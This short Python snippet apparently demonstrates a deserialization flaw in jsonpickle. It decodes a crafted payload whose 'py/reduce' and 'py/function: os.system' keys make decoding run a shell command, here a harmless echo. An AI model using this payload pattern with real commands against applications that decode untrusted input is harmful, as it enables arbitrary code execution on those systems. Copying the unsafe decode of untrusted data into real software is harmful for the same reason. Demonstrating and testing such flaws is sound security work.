import jsonpickle

jsonpickle.decode('{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo weighin"]}]}')
